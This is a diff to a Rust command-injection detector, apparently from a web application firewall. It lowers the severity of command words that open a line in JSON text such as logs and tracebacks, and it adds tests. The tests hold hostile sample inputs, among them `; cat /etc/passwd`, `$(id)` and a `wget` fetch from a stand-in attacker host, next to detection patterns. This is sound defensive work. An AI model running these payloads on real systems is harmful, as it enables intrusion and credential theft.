@@ -23,7 +23,8 @@ use std::borrow::Cow;
 
 pub(crate) struct Cmdi {
     rules: Rules,
-    /// JavaScript that is an injection outside a JSON text field, where code samples do not travel.
+    /// JavaScript, and a command opening a line, which are an injection outside a JSON text field,
+    /// where code samples, logs and documents do not travel.
     strict_rules: Rules,
 }
 
@@ -221,7 +222,12 @@ impl Cmdi {
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
-        let strong_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        // A line break separates commands in a script, but also the lines of a document, a log
+        // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
+        // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
+        let command_after = |sep: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        let strong_after_sep = command_after(r"(?:[;|]|&&|&|\$\(|<\(|\|\|)");
+        let strong_on_a_line = command_after(r"[\n\r]");
         let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
@@ -252,6 +258,7 @@ impl Cmdi {
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
             (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
             (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
+            (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
             (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
@@ -273,7 +280,13 @@ impl Cmdi {
         ];
         Ok(Cmdi {
             rules: Rules::new(Family::Cmdi, &table)?,
-            strict_rules: Rules::new(Family::Cmdi, &[(JS_CODE, High, 0.85, "server-side JavaScript code injection")])?,
+            strict_rules: Rules::new(
+                Family::Cmdi,
+                &[
+                    (JS_CODE, High, 0.85, "server-side JavaScript code injection"),
+                    (strong_on_a_line.as_str(), Critical, 0.9, "command after a shell separator"),
+                ],
+            )?,
         })
     }
 }
@@ -596,6 +609,17 @@ mod tests {
         ] {
             assert!(!any_flag_in_json(v), "{v} in a JSON body");
             assert!(!flags_at("attack.cmdi", Part::Body, v), "{v} in a form field");
+        }
+        // Lines of a log or a document in a JSON text field; in a URL a line break is a separator.
+        for v in [
+            "Traceback (most recent call last):\n  File \"/app/main.py\", line 3, in <module>\n    import os",
+            "Steps:\nset -e at the top\ntype /help in the console",
+        ] {
+            assert!(!any_flag_in_json(v), "{v} in a JSON body");
+            assert!(flags("attack.cmdi", v), "{v} in a URL");
+        }
+        for v in ["notes\n; cat /etc/passwd", "x\nwget http://evil.example/s", "a\n$(id)"] {
+            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
         }
         for v in [
             ";{cat,/etc/passwd}",
